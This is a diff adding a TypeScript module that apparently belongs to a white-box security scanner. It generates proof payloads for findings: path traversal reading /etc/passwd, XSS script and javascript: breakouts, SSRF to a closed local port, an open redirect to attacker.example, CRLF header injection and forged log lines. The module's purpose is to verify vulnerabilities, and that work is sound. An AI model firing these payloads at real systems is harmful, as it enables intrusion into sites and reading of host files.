@@ -1,0 +1,100 @@
+/* Payloads for places: files, addresses, pages, headers, logs. Each reads, or aims where nothing can be written. */
+import type { Input, Landing } from '#engine/findings/finding.ts';
+import { UNKNOWN } from '#engine/report/proof/landing.ts';
+import { shows, TO_BE_SEEN, type PayloadMaker } from '#engine/report/proof/payload.ts';
+import { sinkHop } from '#engine/report/report-finding.ts';
+import { markupContext, type MarkupContext } from '#engine/verification/value-context.ts';
+
+const UPWARD = '../'.repeat(12);
+
+/** Files that every user of a POSIX host may read, by how their names end. */
+const READABLE: readonly (readonly [ending: string, file: string, content: string])[] = [
+  ['', 'etc/passwd', 'root:x:0:0'],
+  ['.conf', 'etc/nsswitch.conf', 'hosts:'],
+  ['/passwd', 'etc/passwd', 'root:x:0:0'],
+  ['/hostname', 'etc/hostname', ''],
+];
+
+/** A call whose name says that it writes, moves or deletes. */
+const WRITES = /(?:write|append|unlink|rm|remove|delete|rename|move|copy|save|mkdir|create|upload|store|put|extract|symlink|link|chmod|chown|truncate|transfer|output)\w*\s*\($/i;
+
+/** What a call does, by its name: the text before the first bracket. */
+function writes(code: string): boolean {
+  return WRITES.test(/^[^(]*\(/.exec(code)?.[0] ?? '') || /['"][wax]b?\+?['"]/.test(code);
+}
+
+/** Behind a known text that does not end a folder's name, the way up begins with a separator. */
+function wayUp({ before }: Landing, input: Input | undefined): string {
+  const last = before.slice(-1);
+  // A part of the request's own path stands behind a separator already.
+  const isBehindSeparator = last === '' || last === '/' || (last === UNKNOWN && input?.place === 'path');
+  return isBehindSeparator ? UPWARD : `/${UPWARD}`;
+}
+
+export const pathPayload: PayloadMaker = ({ finding, landing = { before: '', after: '' } }) => {
+  const up = wayUp(landing, finding.input);
+  if (writes(sinkHop(finding).text)) {
+    return {
+      text: `${up}whitebox-no-such-folder/probe`, expected: TO_BE_SEEN,
+      effect: 'The error, in the answer or in the log, speaks of `/whitebox-no-such-folder`, outside of the intended folder. The folder is not there, so nothing is written.',
+    };
+  }
+  const known = READABLE.find(([ending]) => ending === landing.after) ?? (landing.after.includes(UNKNOWN) ? READABLE[0] : undefined);
+  if (known === undefined) {
+    return { missing: `What is sent is followed by \`${landing.after.slice(0, 60)}\`. To see it, send \`${up}\` and the path of a file of the host that ends so, without that ending.` };
+  }
+  const [ending, file, content] = known;
+  return { text: `${up}${file.slice(0, file.length - ending.length)}`, effect: `The answer has the content of \`/${file}\`, which lies outside of the intended folder.`, expected: content === '' ? TO_BE_SEEN : shows(content) };
+};
+
+const SCRIPT = '<script>alert(document.domain)</script>';
+/** How markup breaks out of its place. */
+const BREAKOUTS: Readonly<Record<MarkupContext, (before: string) => string>> = {
+  text: (before) => `${/<(title|textarea)[^>]*>[^<]*$/i.exec(before)?.[1]?.replace(/^/, '</').replace(/$/, '>') ?? ''}${SCRIPT}`,
+  'quoted-attribute': (before) => `${/=\s*(["'])[^"']*$/.exec(before)?.[1] ?? '"'}>${SCRIPT}`,
+  'unquoted-attribute': () => `x>${SCRIPT}`,
+  tag: () => `>${SCRIPT}`,
+  url: () => 'javascript:alert(document.domain)',
+  script: (before) => (/<script[^>]*>[^<]*$/i.test(before) ? `</script>${SCRIPT}` : `');alert(document.domain);//`),
+  style: () => `</style>${SCRIPT}`,
+};
+
+export const scriptPayload: PayloadMaker = ({ finding, landing }) => {
+  if (finding.input?.kind.startsWith('browser-') === true) {
+    return { text: '<img src=x onerror=alert(document.domain)>', effect: "The page shows the alert: what the address or message says ran in the site's name.", expected: TO_BE_SEEN };
+  }
+  const before = landing?.before.replaceAll(UNKNOWN, '') ?? '';
+  const text = BREAKOUTS[markupContext(before)](before);
+  return {
+    text, otherwise: [text.replaceAll('"', "'"), `${SCRIPT.replace('document.domain', '1')}`],
+    effect: `The answer has \`${text}\` as it was sent, and a browser runs it in the site's name.`, expected: shows(text),
+  };
+};
+
+/** A port of the server itself at which nothing listens. */
+const OWN_PORT = '127.0.0.1:9';
+
+export const requestPayload: PayloadMaker = ({ landing }) => {
+  const effect = `The server itself tries to connect to \`${OWN_PORT}\`: its error, in the answer or in the log, or how fast it fails, tells that nothing listens there.`;
+  const before = landing?.before ?? '';
+  if (before === '' || before === UNKNOWN) return { text: `http://${OWN_PORT}/`, effect, expected: shows(OWN_PORT) };
+  if (/^[a-z]+:\/\/$/i.test(before)) return { text: `${OWN_PORT}/?`, effect, expected: shows(OWN_PORT) };
+  if (/^[a-z]+:\/\/[^/]+$/i.test(before)) return { text: `@${OWN_PORT}/?`, effect, expected: shows(OWN_PORT) };
+  return { text: '../whitebox-probe?', effect: 'The server asks the fixed host for `whitebox-probe`, a path that the program never meant: the answer, or the log of that host, shows it.', expected: TO_BE_SEEN };
+};
+
+export const redirectPayload: PayloadMaker = ({ landing }) => {
+  const before = landing?.before ?? '';
+  const host = 'attacker.example';
+  const text = /^[a-z]+:\/\/[^/]+$/i.test(before) ? `.${host}/` : before === '/' ? `/${host}/` : `https://${host}/`;
+  return { text, effect: `The answer's \`Location\` leads the browser to \`${host}\`.`, expected: { kind: 'header-contains', name: 'Location', text: host } };
+};
+
+export const headerPayload: PayloadMaker = () => ({
+  text: 'x\r\nX-Injected: yes', expected: { kind: 'header-contains', name: 'X-Injected', text: 'yes' },
+  effect: 'The answer carries the header `X-Injected`; a server that refuses line breaks in headers fails instead, with an error that names the invalid character.',
+});
+
+export const logPayload: PayloadMaker = () => ({
+  text: 'x\nINFO forged entry', expected: TO_BE_SEEN, effect: 'The log has a line of its own, `INFO forged entry`, that the program never wrote.',
+});
